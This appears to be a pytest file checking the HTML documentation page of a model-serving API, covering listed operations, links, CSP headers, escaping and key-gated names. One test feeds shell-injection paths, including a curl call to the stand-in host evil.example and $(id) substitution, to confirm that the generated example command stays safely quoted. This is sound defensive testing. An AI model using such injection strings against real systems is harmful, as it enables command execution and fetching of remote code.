"""Page of the OpenAPI document: complete, without requests, and without class names for a caller without the key."""

import base64
import hashlib
import html
import re
import subprocess
from html.parser import HTMLParser

import pytest

from tests.function.api.openapi import calls
from tests.function.api.openapi.calls import TASKS, TENSORS
from tests.function.api.openapi.test_document import DIGEST, KEY

VOID = {"meta", "br", "img", "link", "input"}


class Tags(HTMLParser):
    """Elements of a page; an element that is not closed in its place is an error."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)
        assert not self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("model", [*TASKS, *TENSORS])
def test_page_has_every_operation_and_links_within_itself(model: str) -> None:
    page = Tags(calls.get(model, "/docs").text)
    for path, item in calls.document(model)["paths"].items():
        for method in item:
            assert f"{method.upper()} {path}" in page.text
    ids = {attributes["id"] for _, attributes in page.elements if "id" in attributes}
    links = {str(attributes["href"]) for tag, attributes in page.elements if tag == "a"}
    assert links
    assert {link.removeprefix("#") for link in links} <= ids


@pytest.mark.parametrize("model", ["colors", "add"])
def test_page_loads_nothing(model: str) -> None:
    reply = calls.get(model, "/docs")
    page = Tags(reply.text)
    assert not {tag for tag, _ in page.elements} & {"script", "img", "link", "iframe", "form"}
    assert not any({"src", "style"} & set(attributes) for _, attributes in page.elements)
    (style,) = re.findall("<style>(.*?)</style>", reply.text, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert "url(" not in style
    assert "@import" not in style
    policy = reply.headers["Content-Security-Policy"]
    assert policy.startswith(f"default-src 'none'; style-src 'sha256-{digest}'; ")


def test_options_and_defaults_are_in_the_page() -> None:
    page = Tags(calls.get("colors", "/docs", CONF_THRESHOLD="0.37").text)
    assert "0.37" in page.text
    assert "number, 0 to 1" in page.text
    assert "score_threshold" in page.text
    assert "box_2d.x_min" in page.text


@pytest.mark.parametrize("model", [*TASKS, *TENSORS])
def test_option_and_object_are_in_the_page_once(model: str) -> None:
    document, text = calls.document(model), calls.get(model, "/docs").text
    cells = re.findall("<td>(.*?)</td>", text)
    for parameter in document["paths"]["/"]["post"].get("parameters", ()):
        name = parameter["name"]
        # Fields of the results, and a limit, have the name of an option too.
        assert cells.count(f"<code>{name}</code>") == {"image_name": 2, "imgsz": 3}.get(name, 1)
    ids = [str(attributes["id"]) for _, attributes in Tags(text).elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    assert {f"object-{name}" for name in document["components"]["schemas"]} <= set(ids)


def test_row_of_an_option_has_its_range_default_and_ways() -> None:
    (row,) = re.findall("<tr><td><code>max_det</code>.*?</tr>", calls.get("colors", "/docs", MAX_DETECTIONS="7").text)
    cells = re.findall("<td>(.*?)</td>", row)
    assert cells[1:4] == ["integer, 1 to 3000", "<code>7</code>", "query, form, JSON"]


def test_body_of_the_model_leads_to_the_options() -> None:
    text = calls.get("colors", "/docs").text
    for name in ("Request", "Image", "Form"):
        (section,) = re.findall(f'<section><h2 id="object-{name}">.*?</section>', text)
        assert '<a href="#options">' in section


def test_text_of_the_document_is_escaped() -> None:
    sample = calls.event("alb", "GET", "/<b>/docs")
    assert "<b>" not in calls.call("colors", sample).text


@pytest.mark.parametrize(
    "path", ["/x';curl$IFS$9evil.example/i;'", "/`id`", "/$(id)", "/a;b", "/a&b", '/"', "/a b", "/\\"]
)
@pytest.mark.parametrize("model", ["colors", "add"])
def test_example_command_has_the_url_as_one_word(model: str, path: str) -> None:
    sample = calls.event("function_url", "GET", f"{path}/docs")
    (command,) = re.findall(r"<pre.*?><code>(.*?)</code>", calls.call(model, sample).text)
    script = f"curl() {{ printf '%s\\n' \"$@\"; }}; {html.unescape(command)}"
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
    *_, url = words = done.stdout.splitlines()
    assert (len(words), url.startswith("https://"), done.stderr) == (5, True, "")


def test_class_names_and_the_checksum_need_the_key() -> None:
    opened = calls.call("colors", calls.event("function_url", "GET", "/docs"), API_KEY_SHA256=DIGEST)
    keyed = calls.call("colors", calls.event("function_url", "GET", "/docs", **KEY), API_KEY_SHA256=DIGEST)
    checksum = calls.get("colors", "/model").json["sha256"]
    assert opened.status == keyed.status == 200
    for secret in ("red, blue", checksum):
        assert secret not in opened.text
        assert secret in keyed.text
    assert "x-api-key: KEY" in Tags(opened.text).text


def test_names_of_a_generic_model_need_the_key() -> None:
    opened = calls.call("add", calls.event("function_url", "GET", "/docs"), API_KEY_SHA256=DIGEST)
    assert opened.status == 200
    assert "twice" not in opened.text
    assert "twice" in calls.get("add", "/docs").text
